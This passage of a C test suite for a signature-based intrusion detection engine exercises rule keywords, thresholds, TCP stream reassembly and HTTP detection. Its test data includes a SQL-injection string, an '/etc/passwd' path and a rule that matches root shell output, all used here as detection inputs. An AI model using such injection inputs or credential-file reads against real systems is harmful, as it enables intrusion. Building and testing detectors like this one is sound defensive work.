			{ "0", 0, 1 },
			{ "0", NET_TH_ACK, 0 },
			{ "S,12", NET_TH_SYN | NET_TH_ECE | NET_TH_CWR, 1 },
			{ "S,CE", NET_TH_SYN | NET_TH_ECE, 1 },
			{ "S", NET_TH_SYN | NET_TH_ECE, 0 },
			{ "FPU", NET_TH_FIN | NET_TH_PUSH | NET_TH_URG, 1 },
		};
		size_t i;

		for (i = 0; i < sizeof(ft) / sizeof(ft[0]); i++) {
			char rule[128];
			int got;

			snprintf(rule, sizeof(rule), "alert tcp any any -> any "
			    "any (flags:%s; sid:1;)", ft[i].flags);
			tcp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, ft[i].pkt, 1, 1,
			    NULL, 0);
			got = run1(rule, &p, NULL, 0)->n;
			if (got != ft[i].want)
				fprintf(stderr, "flags:%s on 0x%02x\n",
				    ft[i].flags, ft[i].pkt);
			CHECK_INT(got, ft[i].want);
		}
		/* flags on ip rules: only TCP packets. */
		udp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, NULL, 0);
		CHECK_INT(run1("alert ip any any -> any any (flags:0; sid:1;)",
		    &p, NULL, 0)->n, 0);
	}

	/* dsize (exclusive ranges, as Suricata's integer keywords). */
	{
		static const struct {
			const char *v;
			int len, want;
		} dt[] = {
			{ "10", 10, 1 }, { "10", 9, 0 }, { "<10", 9, 1 },
			{ "<10", 10, 0 }, { ">10", 11, 1 }, { ">10", 10, 0 },
			{ "<=10", 10, 1 }, { ">=10", 10, 1 }, { "!10", 10, 0 },
			{ "!10", 11, 1 }, { "5<>10", 5, 0 }, { "5<>10", 6, 1 },
			{ "5<>10", 9, 1 }, { "5<>10", 10, 0 }, { "5-10", 7, 1 },
			{ "5-10", 10, 0 }, { "!5-10", 10, 1 }, { "!5-10", 7, 0 },
			{ "0", 0, 1 }, { "0x10", 16, 1 },
		};
		static const char buf[64];
		size_t i;

		for (i = 0; i < sizeof(dt) / sizeof(dt[0]); i++) {
			char rule[128];

			snprintf(rule, sizeof(rule), "alert udp any any -> any "
			    "any (dsize:%s; sid:1;)", dt[i].v);
			udp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, buf,
			    (size_t)dt[i].len);
			CHECK_INT(run1(rule, &p, NULL, 0)->n, dt[i].want);
		}
		/* The headers' length counts when the capture was cut. */
		udp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, buf, 10);
		p.plen_wire = 1400;
		CHECK_INT(run1("alert udp any any -> any any (dsize:>1000; "
		    "sid:1;)", &p, NULL, 0)->n, 1);
	}

	/* itype / icode. */
	icmp_pkt(&p, "1.1.1.1", "2.2.2.2", 8, 0, "abc", 3);
	CHECK_INT(run1("alert icmp any any -> any any (itype:8; icode:0; "
	    "sid:1;)", &p, NULL, 0)->n, 1);
	CHECK_INT(run1("alert icmp any any -> any any (itype:>8; sid:1;)", &p,
	    NULL, 0)->n, 0);
	CHECK_INT(run1("alert icmp any any -> any any (itype:3<>9; sid:1;)",
	    &p, NULL, 0)->n, 1);
	CHECK_INT(run1("alert ip any any -> any any (icode:1; sid:1;)", &p,
	    NULL, 0)->n, 0);
	p.proto = NET_P_ICMP6;
	p.icmp_type = 128;
	CHECK_INT(run1("alert icmp any any -> any any (itype:128; sid:1;)",
	    &p, NULL, 0)->n, 1);
	tcp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, 0, 1, 1, NULL, 0);
	CHECK_INT(run1("alert ip any any -> any any (itype:0; sid:1;)", &p,
	    NULL, 0)->n, 0);
}

/* What a detection carries. */
TEST(match_detection)
{
	struct net_pkt p;
	struct hits *h;

	tcp_pkt(&p, "10.0.0.1", 1234, "10.0.0.2", 80, NET_TH_ACK, 1, 1,
	    "hello", 5);
	p.ts_ns = 1234567890123LL;
	h = run1("reject tcp any any -> any any (msg:\"Hi there\"; "
	    "content:\"hello\"; classtype:attempted-admin; sid:77;)\n", &p,
	    NULL, 0);
	CHECK_INT(h->n, 1);
	if (h->n != 1)
		return;
	CHECK_STR(h->d[0].kind, "signature");
	CHECK_STR(h->d[0].type, "attempted-admin");
	CHECK_STR(h->d[0].text, "Hi there");
	CHECK_INT(h->d[0].sid, 77);
	CHECK_INT(h->d[0].severity, 3);
	CHECK_INT(h->d[0].sport, 1234);
	CHECK_INT(h->d[0].dport, 80);
	CHECK_INT(h->d[0].proto, NET_P_TCP);
	CHECK_INT(h->d[0].ts_ns, 1234567890123LL);
	CHECK_INT(h->d[0].count, 1);
	CHECK(net_addr_eq(&h->d[0].src, &p.src));
	CHECK(net_addr_eq(&h->d[0].dst, &p.dst));
	/* priority 4 is the lowest severity; no classtype: NULL type. */
	h = run1("alert tcp any any -> any any (content:\"hello\"; "
	    "priority:4; sid:78;)\n", &p, NULL, 0);
	CHECK_INT(h->n, 1);
	CHECK_INT(h->d[0].severity, 1);
	CHECK(h->d[0].type == NULL);
	/* A pass rule silences the packet; other packets still alert. */
	h = run1("alert tcp any any -> any any (content:\"hello\"; sid:1;)\n"
	    "pass tcp 10.0.0.1 any -> any any (sid:2;)\n", &p, NULL, 0);
	CHECK_INT(h->n, 0);
	h = run1("alert tcp any any -> any any (content:\"hello\"; sid:1;)\n"
	    "pass tcp 10.0.0.9 any -> any any (sid:2;)\n", &p, NULL, 0);
	CHECK_INT(h->n, 1);
}

/* ---------------------------------------------------------------------
 * Thresholds.
 */
static int
thr_run(const char *rule, const char *const *srcs, const int64_t *secs,
    int n, int *fired)
{
	struct net_sigset *s = load(rule);
	struct net_sig_ctx *c;
	struct net_pkt p;
	int i, total = 0;

	if (s == NULL || (c = net_sig_ctx_new(s)) == NULL) {
		net_sigset_free(s);
		return -1;
	}
	for (i = 0; i < n; i++) {
		struct hits h;

		memset(&h, 0, sizeof(h));
		udp_pkt(&p, srcs[i], 1, "10.9.9.9", 2, "x", 1);
		p.ts_ns = secs[i] * 1000000000LL;
		net_sig_packet(c, &p, NULL, 0, collect, &h);
		fired[i] = h.n;
		total += h.n;
	}
	net_sig_ctx_free(c);
	net_sigset_free(s);
	return total;
}

TEST(thresholds)
{
	const char *a = "10.0.0.1", *b = "10.0.0.2";
	const char *srcs[8] = { a, a, a, a, a, a, a, a };
	int64_t secs[8] = { 0, 1, 2, 3, 4, 5, 6, 7 };
	int fired[8], i;

	/* limit 2 per 60 s: the first two. */
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type limit,"
	    " track by_src, count 2, seconds 60; sid:1;)", srcs, secs, 5,
	    fired), 2);
	CHECK(fired[0] == 1 && fired[1] == 1 && fired[2] == 0);
	/* ... and again once the window has passed. */
	secs[4] = 61;
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type limit,"
	    " track by_src, count 2, seconds 60; sid:1;)", srcs, secs, 5,
	    fired), 3);
	CHECK_INT(fired[4], 1);
	secs[4] = 4;
	/* threshold 3: the 3rd and the 6th. */
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type "
	    "threshold, track by_src, count 3, seconds 60; sid:1;)", srcs,
	    secs, 7, fired), 2);
	CHECK(fired[2] == 1 && fired[5] == 1);
	/* both 2: once per window, at the 2nd. */
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type both,"
	    " track by_src, count 2, seconds 60; sid:1;)", srcs, secs, 6,
	    fired), 1);
	CHECK_INT(fired[1], 1);
	/* detection_filter 2: every match after the 2nd. */
	CHECK_INT(thr_run("alert udp any any -> any any (detection_filter:"
	    "track by_src, count 2, seconds 60; sid:1;)", srcs, secs, 6,
	    fired), 4);
	CHECK(fired[0] == 0 && fired[1] == 0 && fired[2] == 1);
	/* Tracked per source: b has its own count. */
	for (i = 0; i < 8; i++)
		srcs[i] = i % 2 ? b : a;
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type limit,"
	    " track by_src, count 1, seconds 60; sid:1;)", srcs, secs, 8,
	    fired), 2);
	/* by_dst: one destination for all. */
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type limit,"
	    " track by_dst, count 1, seconds 60; sid:1;)", srcs, secs, 8,
	    fired), 1);
	/* by_rule. */
	CHECK_INT(thr_run("alert udp any any -> any any (threshold:type limit,"
	    " track by_rule, count 3, seconds 60; sid:1;)", srcs, secs, 8,
	    fired), 3);
}

/* A tiny threshold table still answers (oldest entries reused). */
TEST(threshold_table_bounded)
{
	struct net_sigset *s = load("alert udp any any -> any any "
	    "(threshold:type limit, track by_src, count 1, seconds 600; "
	    "sid:1;)");
	struct net_sig_conf conf;
	struct net_sig_ctx *c;
	struct net_sig_stats st;
	struct net_pkt p;
	struct hits h;
	int i;

	if (s == NULL)
		return;
	net_sig_conf_init(&conf);
	conf.threshold_slots = 1;	/* rounded up to 64 */
	c = net_sig_ctx_new_conf(s, &conf);
	CHECK(c != NULL);
	memset(&h, 0, sizeof(h));
	for (i = 0; i < 1000; i++) {
		char src[32];

		snprintf(src, sizeof(src), "10.1.%d.%d", i / 250, i % 250 + 1);
		udp_pkt(&p, src, 1, "10.9.9.9", 2, "x", 1);
		net_sig_packet(c, &p, NULL, 0, collect, &h);
	}
	CHECK_INT(h.n, 1000);	/* each source once */
	net_sig_ctx_stats(c, &st);
	CHECK(st.threshold_evicted >= 1000 - 64);
	net_sig_ctx_free(c);
	net_sigset_free(s);
}

/* ---------------------------------------------------------------------
 * Streams.
 */
struct conv {
	struct net_sigset *s;
	struct net_sig_ctx *c;
	struct net_flow	 f;
	struct hits	 h;
	uint32_t	 cseq, sseq;	/* client and server ISN */
};

static int
conv_open(struct conv *v, const char *rules, const struct net_sig_conf *conf)
{
	memset(v, 0, sizeof(*v));
	if ((v->s = load(rules)) == NULL)
		return -1;
	v->c = conf != NULL ? net_sig_ctx_new_conf(v->s, conf) :
	    net_sig_ctx_new(v->s);
	if (v->c == NULL)
		return -1;
	flow_init(&v->f, NET_P_TCP);
	return 0;
}

/* One segment; dir 0 client to server.  off is the stream offset of the
 * payload's first byte (the SYN is at offset -1). */
static int
conv_seg(struct conv *v, int dir, uint8_t flags, uint32_t off,
    const char *data, size_t len)
{
	struct net_pkt p;
	int before = v->h.n;

	if (dir == 0)
		tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, flags,
		    v->cseq + 1 + off, v->sseq + 1, data, len);
	else
		tcp_pkt(&p, "10.0.0.2", 80, "10.0.0.1", 40000, flags,
		    v->sseq + 1 + off, v->cseq + 1, data, len);
	net_sig_packet(v->c, &p, &v->f, dir, collect, &v->h);
	return v->h.n - before;
}

static void
conv_handshake(struct conv *v)
{
	struct net_pkt p;

	tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_SYN, v->cseq, 0,
	    NULL, 0);
	net_sig_packet(v->c, &p, &v->f, 0, collect, &v->h);
	tcp_pkt(&p, "10.0.0.2", 80, "10.0.0.1", 40000, NET_TH_SYN | NET_TH_ACK,
	    v->sseq, v->cseq + 1, NULL, 0);
	net_sig_packet(v->c, &p, &v->f, 1, collect, &v->h);
}

static void
conv_close(struct conv *v)
{
	flow_release(&v->f);
	net_sig_ctx_free(v->c);
	net_sigset_free(v->s);
}

static const char *root_rule =
    "alert tcp any any -> any any (msg:\"root\"; flow:established,"
    "to_client; content:\"uid=0|28|root|29| gid=0|28|\"; sid:1;)\n";

TEST(stream_split)
{
	struct conv v;

	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	v.cseq = 1000;
	v.sseq = 5000;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK | NET_TH_PUSH, 0, "id\n", 3), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK | NET_TH_PUSH, 0, "uid=0(ro", 8),
	    0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK | NET_TH_PUSH, 8, "ot) gid=0(r",
	    11), 1);
	/* More data: what matched is not reported again. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK | NET_TH_PUSH, 19, "oot)\n", 5),
	    0);
	/* A retransmission of the matching segment: nothing new. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK | NET_TH_PUSH, 8, "ot) gid=0(r",
	    11), 0);
	/* A second occurrence is a second alert. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK | NET_TH_PUSH, 24,
	    "uid=0(root) gid=0(root)\n", 24), 1);
	CHECK_INT(v.h.n, 2);
	CHECK_INT(v.h.d[0].sport, 80);	/* from the server */
	/* The server closes; the client acknowledges the FIN, whose
	 * sequence number is no missing byte. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK | NET_TH_FIN, 48, NULL, 0), 0);
	{
		struct net_pkt p;
		struct net_sig_stats st;

		tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_ACK,
		    v.cseq + 1 + 3, v.sseq + 1 + 49, NULL, 0);
		net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
		net_sig_ctx_stats(v.c, &st);
		CHECK_INT(st.stream_gaps, 0);
	}
	conv_close(&v);
}

TEST(stream_reorder_overlap_wrap)
{
	struct conv v;

	/* The second half first: held, then delivered when the hole fills.
	 * The sequence numbers wrap inside the data. */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	v.cseq = 0xfffffff0u;
	v.sseq = 0xfffffffau;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 8, "ot) gid=0(r", 11), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(ro", 8), 1);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 19, "oot)", 4), 0);
	conv_close(&v);

	/* Overlap: the bytes that came first stay.  "uid=0(XX" is
	 * overwritten by a retransmission claiming "uid=0(ro": the stream
	 * keeps XX, no match. */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	v.cseq = 7;
	v.sseq = 0x7fffffffu;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(XX", 8), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 4, "0(root) gid=0(", 14), 0);
	conv_close(&v);

	/* Overlap with held data: a held segment wins over a later one
	 * covering the same bytes. */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	v.cseq = 7;
	v.sseq = 99;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 6, "XX", 2), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(root) gid=0(", 18),
	    0);
	conv_close(&v);
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 6, "ro", 2), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(root) gid=0(", 18),
	    1);
	conv_close(&v);
}

TEST(stream_gap)
{
	struct conv v;
	struct net_sig_stats st;

	/* A lost segment the client acknowledges: the window restarts, and
	 * "uid=0(ro" + [lost] + "ot) gid=0(" is not a match. */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(ro", 8), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 10, "ot) gid=0(", 10), 0);
	/* The client ACKs byte 20: the 2 bytes at 8 will never come. */
	{
		struct net_pkt p;

		tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_ACK,
		    v.cseq + 1, v.sseq + 1 + 20, NULL, 0);
		net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
	}
	CHECK_INT(v.h.n, 0);
	/* After the gap, matching goes on. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 20, "uid=0(root) gid=0(r", 19),
	    1);
	net_sig_ctx_stats(v.c, &st);
	CHECK_INT(st.stream_gaps, 1);
	CHECK(st.stream_ooo >= 1);
	conv_close(&v);

	/* Held data released by the other side's ACK is matched then,
	 * and reported as going the way it went (server to client). */
	if (conv_open(&v, root_rule, NULL) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "xx", 2), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 10, "uid=0(root) gid=0(", 18),
	    0);
	{
		struct net_pkt p;

		tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 80, NET_TH_ACK,
		    v.cseq + 1, v.sseq + 1 + 28, NULL, 0);
		net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
	}
	CHECK_INT(v.h.n, 1);
	if (v.h.n == 1) {
		struct net_addr server;

		addr(&server, "10.0.0.2");
		CHECK(net_addr_eq(&v.h.d[0].src, &server));
		CHECK_INT(v.h.d[0].sport, 80);
		CHECK_INT(v.h.d[0].dport, 40000);
	}
	conv_close(&v);

	/* A segment far beyond the hold area skips the hole at once. */
	{
		struct net_sig_conf conf;

		net_sig_conf_init(&conf);
		conf.stream_ooo = 256;
		if (conv_open(&v, root_rule, &conf) != 0)
			return;
		conv_handshake(&v);
		CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(ro", 8), 0);
		CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 1000,
		    "uid=0(root) gid=0(", 18), 1);
		/* The hole's bytes, late: already given up, ignored. */
		CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 8, "ot) gid=0(", 10), 0);
		conv_close(&v);
	}
}

TEST(stream_window)
{
	struct conv v;
	struct net_sig_conf conf;
	struct net_sig_stats st;
	char *big;
	size_t n = 10000;

	/* One segment larger than the window: every byte is seen, in
	 * updates of at most half a window. */
	net_sig_conf_init(&conf);
	conf.stream_window = 1024;
	if (conv_open(&v, root_rule, &conf) != 0)
		return;
	conv_handshake(&v);
	big = malloc(n);
	if (big == NULL)
		return;
	memset(big, '.', n);
	memcpy(big + 100, "uid=0(root) gid=0(", 18);
	memcpy(big + 3000, "uid=0(root) gid=0(", 18);
	memcpy(big + n - 18, "uid=0(root) gid=0(", 18);
	/* Three occurrences in one packet: one alert per packet. */
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, big, n), 1);
	net_sig_ctx_stats(v.c, &st);
	CHECK(st.stream_updates >= n / 512);
	/* Across a 512-byte boundary of updates inside one segment. */
	memset(big, '.', n);
	memcpy(big + 505, "uid=0(root) gid=0(", 18);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, (uint32_t)n, big, 1024), 1);
	free(big);
	conv_close(&v);

	/* No memory for streams: each packet is matched alone. */
	net_sig_conf_init(&conf);
	conf.stream_memcap = 16;
	if (conv_open(&v, root_rule, &conf) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "uid=0(ro", 8), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 8, "ot) gid=0(", 10), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 18, "uid=0(root) gid=0(", 18),
	    1);
	net_sig_ctx_stats(v.c, &st);
	CHECK(st.stream_memcap > 0);
	CHECK_INT(st.stream_mem, 0);
	conv_close(&v);
}

/*
 * Reassembly as a property: a stream cut into segments of random sizes,
 * sent with local reordering, retransmissions and overlaps (same bytes),
 * comes out whole, in order, once, at the stream offsets it had, for
 * several windows and sequence starts (wrapping included).
 */
struct collect_stream {
	uint8_t		*out;
	size_t		 n, cap;
	int		 bad;
};

static void
stream_out(void *arg, int dir, const uint8_t *win, uint32_t wlen,
    uint32_t newoff, uint64_t base)
{
	struct collect_stream *cs = arg;

	if (dir != 0 || newoff >= wlen || base + newoff != cs->n ||
	    cs->n + (wlen - newoff) > cs->cap) {
		cs->bad++;
		return;
	}
	/* The old part of the window is what came before. */
	if (newoff > 0 && memcmp(win, cs->out + cs->n - newoff, newoff) != 0)
		cs->bad++;
	memcpy(cs->out + cs->n, win + newoff, wlen - newoff);
	cs->n += wlen - newoff;
}

static uint32_t
xorshift(uint32_t *st)
{
	uint32_t x = *st;

	x ^= x << 13;
	x ^= x >> 17;
	x ^= x << 5;
	return *st = x;
}

TEST(stream_reassembly_property)
{
	static const uint32_t windows[] = { 256, 1024, 4096 };
	static const uint32_t isns[] = { 1, 0xfffff000u, 0x7ffffff0u };
	size_t total = 50000, w, k;
	uint8_t *data = malloc(total);
	uint32_t rng = 12345;

	if (data == NULL)
		return;
	for (k = 0; k < total; k++)
		data[k] = (uint8_t)xorshift(&rng);
	for (w = 0; w < 3; w++) {
		for (k = 0; k < 3; k++) {
			struct net_stream_mem mem;
			struct net_stream *st;
			struct collect_stream cs;
			uint32_t seg_off[2048], seg_len[2048], nseg = 0, i;
			uint32_t off = 0;
			struct net_pkt p;

			memset(&mem, 0, sizeof(mem));
			mem.cap = 1 << 20;
			mem.refs = 1;
			st = net_stream_new(&mem, windows[w], 8192);
			CHECK(st != NULL);
			if (st == NULL)
				break;
			memset(&cs, 0, sizeof(cs));
			cs.cap = total;
			cs.out = malloc(total);
			/* Cut. */
			while (off < total && nseg < 2048) {
				uint32_t n = 1 + xorshift(&rng) % 1460;

				if (off + n > total)
					n = (uint32_t)total - off;
				seg_off[nseg] = off;
				seg_len[nseg++] = n;
				off += n;
			}
			/* Reorder neighbours. */
			for (i = 0; i + 1 < nseg; i++)
				if (xorshift(&rng) % 3 == 0) {
					uint32_t a = seg_off[i], b = seg_len[i];

					seg_off[i] = seg_off[i + 1];
					seg_len[i] = seg_len[i + 1];
					seg_off[i + 1] = a;
					seg_len[i + 1] = b;
				}
			tcp_pkt(&p, "10.0.0.1", 1, "10.0.0.2", 2, NET_TH_SYN,
			    isns[k], 0, NULL, 0);
			net_stream_packet(st, 0, &p, stream_out, &cs);
			for (i = 0; i < nseg; i++) {
				uint32_t o = seg_off[i], n = seg_len[i];

				tcp_pkt(&p, "10.0.0.1", 1, "10.0.0.2", 2,
				    NET_TH_ACK, isns[k] + 1 + o, 1, data + o,
				    n);
				CHECK_INT(net_stream_packet(st, 0, &p,
				    stream_out, &cs), 0);
				/* Now and then a retransmission overlapping
				 * what came before. */
				if (xorshift(&rng) % 4 == 0 && o >= 100) {
					tcp_pkt(&p, "10.0.0.1", 1, "10.0.0.2",
					    2, NET_TH_ACK, isns[k] + 1 + o - 100,
					    1, data + o - 100, n / 2 + 100);
					net_stream_packet(st, 0, &p, stream_out,
					    &cs);
				}
			}
			CHECK_INT(cs.bad, 0);
			CHECK_INT(cs.n, total);
			CHECK(cs.out != NULL && memcmp(cs.out, data, cs.n) == 0);
			CHECK_INT(mem.gaps, 0);
			net_stream_free(st);
			CHECK_INT(mem.used, 0);
			free(cs.out);
		}
	}
	free(data);
}

/* Packet-mode rules (absolute offsets) see each packet; stream rules see
 * the stream once; a flowless packet is matched alone. */
TEST(stream_modes)
{
	struct conv v;
	const char *rules =
	    "alert tcp any any -> any any (content:\"GET \"; depth:4; "
	    "content:\"/x\"; distance:0; within:2; sid:1;)\n"
	    "alert tcp any any -> any any (content:\"abcdef\"; sid:2;)\n"
	    "alert tcp any any -> any any (content:\"zz\"; flow:no_stream; "
	    "sid:3;)\n"
	    "alert tcp any any -> any any (content:\"GET\"; offset:0; depth:3; "
	    "flow:only_stream; sid:4;)\n";

	if (conv_open(&v, rules, NULL) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 0, "GET /x abc", 10), 2);
	CHECK_INT(count_sid(&v.h, 1), 1);
	CHECK_INT(count_sid(&v.h, 4), 1);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 10, "def zz", 6), 2);
	CHECK_INT(count_sid(&v.h, 2), 1);
	CHECK_INT(count_sid(&v.h, 3), 1);
	/* A second request in the same stream: sid 1 (per packet) fires,
	 * sid 4 (stream offset 0..3) does not. */
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 16, "GET /x", 6), 1);
	CHECK_INT(count_sid(&v.h, 1), 2);
	conv_close(&v);

	{
		struct net_pkt p;

		tcp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, NET_TH_ACK, 5, 5,
		    "xxabcdefxx", 10);
		CHECK_INT(run1(rules, &p, NULL, 0)->n, 1);
	}
}

TEST(http_proto)
{
	struct conv v;
	const char *rules = "alert http any any -> any any (content:\"evil\"; "
	    "sid:1;)\n";

	/* An HTTP request on a port that is not an HTTP port. */
	if (conv_open(&v, rules, NULL) != 0)
		return;
	conv_handshake(&v);
	{
		struct net_pkt p;

		tcp_pkt(&p, "10.0.0.1", 40000, "10.0.0.2", 4444, NET_TH_ACK,
		    v.cseq + 1, v.sseq + 1, "GET /evil HTTP/1.0\r\n\r\n", 22);
		net_sig_packet(v.c, &p, &v.f, 0, collect, &v.h);
	}
	CHECK_INT(v.h.n, 1);
	conv_close(&v);
	/* Not HTTP on port 80: no. */
	if (conv_open(&v, rules, NULL) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 0, "SSH-2.0-evil\r\n", 14), 0);
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "HTTP/1.0 200 evil", 17), 0);
	conv_close(&v);
	/* A request split before the method ends. */
	if (conv_open(&v, rules, NULL) != 0)
		return;
	conv_handshake(&v);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 0, "PO", 2), 0);
	CHECK_INT(conv_seg(&v, 0, NET_TH_ACK, 2, "ST /evil HTTP/1.1", 17), 1);
	conv_close(&v);
	/* Picked up midway (no SYN seen): the first bytes seen decide
	 * nothing, $HTTP_PORTS does. */
	if (conv_open(&v, rules, NULL) != 0)
		return;
	CHECK_INT(conv_seg(&v, 1, NET_TH_ACK, 0, "body evil", 9), 1);
	conv_close(&v);
	/* No flow: judged by $HTTP_PORTS. */
	{
		struct net_pkt p;

		tcp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 8080, NET_TH_ACK, 5, 5,
		    "evil", 4);
		CHECK_INT(run1(rules, &p, NULL, 0)->n, 1);
		p.dport = 22;
		CHECK_INT(run1(rules, &p, NULL, 0)->n, 0);
	}
}

/* ---------------------------------------------------------------------
 * The prefilter changes the time, never the result.
 */
static int
run_corpus(const char *rules, uint32_t *sids, int max)
{
	static const char *const payloads[] = {
		"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n",
		"GET /?id=1'+or+'1'='1 HTTP/1.1\r\n",
		"hello world abcdef",
		"xxabcxx", "ABC", "aBc def", "/etc/passwd",
		"key=123; value=abc",
	};
	struct net_sigset *s = load(rules);
	struct net_sig_ctx *c;
	struct net_pkt p;
	struct hits h;
	size_t i;
	int k;

	if (s == NULL || (c = net_sig_ctx_new(s)) == NULL)
		return -1;
	memset(&h, 0, sizeof(h));
	for (i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++) {
		tcp_pkt(&p, "10.0.0.1", 1234, "10.0.0.2", 80, NET_TH_ACK, 1, 1,
		    payloads[i], strlen(payloads[i]));
		net_sig_packet(c, &p, NULL, 0, collect, &h);
	}
	for (k = 0; k < h.n && k < max; k++)
		sids[k] = h.sid[k];
	net_sig_ctx_free(c);
	net_sigset_free(s);
	return h.n;
}

TEST(prefilter_same_result)
{
	const char *rules =
	    "alert tcp any any -> any any (content:\"abc\"; sid:1;)\n"
	    "alert tcp any any -> any any (content:\"abc\"; nocase; sid:2;)\n"
	    "alert tcp any any -> any any (content:\"abc\"; content:\"def\"; "
	    "distance:0; sid:3;)\n"
	    "alert tcp any any -> any any (pcre:\"/'\\+or\\+/i\"; sid:4;)\n"
	    "alert tcp any any -> any any (content:!\"GET\"; sid:5;)\n"
	    "alert tcp any any -> any any (content:\"passwd\"; "
	    "fast_pattern; content:\"/etc/\"; sid:6;)\n"
	    "alert tcp any any -> any any (content:\"key=\"; "
	    "pcre:\"/^\\d+/R\"; sid:7;)\n";
	uint32_t a[64], b[64];
	int na, nb, i;

	unsetenv("MAMORI_NO_PREFILTER");
	na = run_corpus(rules, a, 64);
	setenv("MAMORI_NO_PREFILTER", "1", 1);
	nb = run_corpus(rules, b, 64);
	unsetenv("MAMORI_NO_PREFILTER");
	CHECK(na > 5);
	CHECK_INT(na, nb);
	for (i = 0; i < na && i < nb && i < 64; i++)
		CHECK_INT(a[i], b[i]);
}

TEST(scan_counts)
{
	struct net_sigset *s = load(
	    "alert udp any any -> any any (content:\"a\"; sid:1;)\n"
	    "alert udp any any -> any any (content:\"b\"; sid:2;)\n"
	    "alert udp any any -> any any (content:\"c\"; sid:3;)\n");
	struct net_sig_ctx *c;
	struct net_sig_stats st;
	struct net_pkt p;
	struct hits h;

	if (s == NULL || (c = net_sig_ctx_new(s)) == NULL)
		return;
	memset(&h, 0, sizeof(h));
	udp_pkt(&p, "1.1.1.1", 1, "2.2.2.2", 2, "xbx", 3);
	net_sig_packet(c, &p, NULL, 0, collect, &h);
	net_sig_ctx_stats(c, &st);
	CHECK_INT(h.n, 1);
	CHECK_INT(st.scans, 1);		/* one scan per payload */
	CHECK_INT(st.candidates, 1);	/* only the rule whose literal is
					   there is verified */
	net_sig_ctx_free(c);
	net_sigset_free(s);
}

/* Many candidates in one scan: verified and reported in set order. */
TEST(many_candidates)
{
	char *rules = malloc(200 * 80), *o;
	struct net_sigset *s;
	struct net_sig_ctx *c;
	struct net_pkt p;
	struct hits h;
	int i;

	if (rules == NULL)
		return;
	for (o = rules, i = 0; i < 200; i++)
		o += sprintf(o, "alert udp any any -> any any (content:\"%c%c\"; "
		    "sid:%d;)\n", 'a' + i % 26, 'a' + (i / 26) % 26, 1000 - i);
	s = load(rules);
	free(rules);
	if (s == NULL || (c = net_sig_ctx_new(s)) == NULL)
		return;
	memset(&h, 0, sizeof(h));
